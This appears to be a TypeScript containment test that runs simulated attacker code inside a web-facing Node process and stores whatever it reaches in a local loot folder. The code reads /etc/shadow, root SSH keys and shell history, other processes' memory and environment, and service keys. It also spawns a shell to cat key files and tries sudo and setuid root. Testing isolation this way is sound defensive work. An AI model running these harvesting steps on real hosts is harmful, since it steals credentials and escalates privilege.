/**
 * Attacker's code inside the internet-facing process. It is loaded into the real edge (`node --import`), so it has edge's
 * uid, environment, memory, open sockets, configuration and database login. It waits for the file `go` in edge's own
 * state directory, tries everything below, and leaves whatever it could read in `loot/` for the observer outside.
 * It is bounded: every step ends after 30 s and keeps at most 64 MiB.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { closeSync, existsSync, openSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { getHeapSnapshot } from 'node:v8';
import { Worker } from 'node:worker_threads';
import { readProcesses, readTree, searchKeys, signalOthers } from './edge-files.ts';
import { askOrigins, type EdgeConfig, knockOnSockets, listenIn, sqlAttacks } from './edge-wires.ts';
import { type Keep, Loot } from './loot.ts';

const configFile = process.argv[process.argv.indexOf('--config') + 1];
if (configFile !== undefined && existsSync(configFile)) {
  const config = JSON.parse(readFileSync(configFile, 'utf8')) as EdgeConfig;
  const timer = setInterval(() => {
    if (!existsSync(join(config.state, 'go'))) return;
    clearInterval(timer);
    void attack(config);
  }, 100);
  timer.unref();
}

async function attack(config: EdgeConfig): Promise<void> {
  const loot = new Loot(join(config.state, 'loot'));
  const run = dirname(dirname(Object.values(config.sockets.listen ?? {})[0] ?? join(config.home, 'run/x/x')));
  await loot.try('environment', (keep) => keep(JSON.stringify(process.env)));
  await loot.try('own configuration', (keep) => keep(readFileSync(configFile!)));
  for (const name of ['sealer', 'ledger', 'core', 'supervisor', 'pg', 'demo', 'backup', 'intake', 'glass', 'console']) {
    await loot.try(`files of ${name}`, (keep) => readTree(join(config.home, name), keep));
  }
  for (const name of ['sealer', 'ledger', 'core', 'console', 'glass', 'intake']) {
    await loot.try(`configuration of ${name}`, (keep) =>
      keep(readFileSync(join(config.home, 'config', `${name}.json`))),
    );
  }
  await loot.try('public keys and log', (keep) => {
    readTree(join(config.home, 'public'), keep);
    readTree(join(config.home, 'ledger', 'log'), keep);
  });
  await loot.try('system files', (keep) => {
    for (const file of ['/etc/shadow', '/root/.ssh/id_ed25519', '/root/.bash_history', '/root/.pgpass']) {
      try {
        keep(readFileSync(file));
      } catch {
        // the next file
      }
    }
  });
  for (const part of ['environ', 'cmdline', 'maps', 'mem', 'fd']) {
    await loot.try(`/proc ${part} of the others`, (keep) => readProcesses(part, keep));
  }
  await loot.try('signal the others', () => signalOthers(config.home));
  await loot.try('every unix socket', (keep) => knockOnSockets(run, config.database.host, keep));
  await sqlAttacks(loot, config);
  await loot.try('spawn a shell', (keep) =>
    keep(execFileSync('/bin/sh', ['-c', `cat ${config.home}/*/*.key ${config.home}/config/*; id`])),
  );
  await loot.try('sudo', (keep) =>
    keep(spawnSync('sudo', ['-n', 'cat', `${config.home}/sealer/org.key`]).stdout ?? ''),
  );
  await loot.try('become root', () => {
    process.setuid?.(0);
    return 'became root';
  });
  await loot.try('evaluate text as code', () => String(new Function('return process.pid')()));
  await loot.try('a worker thread', (keep) => inWorker(config.home, keep));
  await loot.try('ask console and glass', (keep) => askOrigins(config, keep));
  await loot.try('own heap', (keep) => heap(keep));
  await loot.try('own open files', (keep) => {
    for (const fd of readdirSync('/proc/self/fd')) {
      try {
        if (statSync(`/proc/self/fd/${fd}`).isFile()) keep(readFileSync(`/proc/self/fd/${fd}`));
      } catch {
        // closed meanwhile
      }
    }
  });
  await loot.try('private keys anywhere', (keep) => searchKeys(config.home, keep));
  await loot.try('replace the code on disk', () => {
    // Opened for writing, then left alone: the right to do it is what is being asked.
    closeSync(openSync(new URL('../../src/run/edge.ts', import.meta.url), 'r+'));
    return 'could write into the program';
  });
  await loot.try('listen to live requests', (keep) => listenIn(keep, 3_000));
  loot.finish();
}

function inWorker(home: string, keep: Keep): Promise<string> {
  return new Promise((resolve, reject) => {
    const code = `const fs=require('fs');require('worker_threads').parentPort.postMessage(fs.readFileSync(${JSON.stringify(join(home, 'sealer', 'org.key'))}).toString('hex'))`;
    const worker = new Worker(code, { eval: true });
    worker.on('message', (text: string) => {
      keep(text);
      resolve('');
    });
    worker.on('error', reject);
  });
}

async function heap(keep: Keep): Promise<void> {
  for await (const part of getHeapSnapshot()) keep(part as Buffer);
}
